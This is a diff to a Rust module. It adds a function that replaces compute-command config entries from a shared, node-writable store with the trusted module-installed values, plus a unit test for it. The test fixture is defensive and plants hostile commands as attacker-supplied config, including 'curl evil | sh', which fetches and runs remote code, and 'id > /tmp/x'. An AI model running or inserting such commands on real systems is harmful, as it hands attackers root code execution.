@@ -66,10 +66,64 @@ pub fn refused_notice(refused: &[String]) -> Option<String> {
     ))
 }
 
+/// `config` with its `compute` section from `modules` (the module layers: built-in and user
+/// modules, which the workstation installed) and nothing of it from the shared config or the
+/// cache: on a node the compute commands run with the engine the node may hold, which is root on
+/// the engine's host, and any node may write the KV. How many keys were set aside.
+pub fn own_compute(config: &mut super::Config, modules: &super::Config) -> usize {
+    let section = format!("{PREFIX}/compute/");
+    let theirs: Vec<String> = config
+        .mapping
+        .keys()
+        .filter(|k| k.starts_with(&section) && modules.mapping.get(*k) != config.mapping.get(*k))
+        .cloned()
+        .collect();
+    for k in &theirs {
+        match modules.mapping.get(k) {
+            Some(v) => {
+                config.mapping.insert(k.clone(), v.clone());
+                if let Some(o) = modules.origins.get(k) {
+                    config.origins.insert(k.clone(), o.clone());
+                }
+            }
+            None => {
+                config.mapping.remove(k);
+                config.origins.remove(k);
+            }
+        }
+    }
+    theirs.len()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use serde_json::json;
+
+    #[test]
+    fn on_a_node_the_compute_commands_are_the_modules_own() {
+        let modules = super::super::Config {
+            mapping: m(&[("compute/docker/headless/start_instance", "sh start.sh")]),
+            ..Default::default()
+        };
+        let mut config = super::super::Config {
+            mapping: m(&[
+                ("compute/docker/headless/start_instance", "curl evil | sh"),
+                ("compute/evil/headless/start_instance", "id > /tmp/x"),
+                ("platform/default/hooks/after_mesh/x/command", "true"),
+            ]),
+            ..Default::default()
+        };
+        assert_eq!(own_compute(&mut config, &modules), 2);
+        assert_eq!(
+            config.mapping,
+            m(&[
+                ("compute/docker/headless/start_instance", "sh start.sh"),
+                ("platform/default/hooks/after_mesh/x/command", "true"),
+            ])
+        );
+        assert_eq!(own_compute(&mut config, &modules), 0);
+    }
 
     fn m(pairs: &[(&str, &str)]) -> Mapping {
         pairs.iter().map(|(k, v)| (format!("{PREFIX}/{k}"), json!(v))).collect()
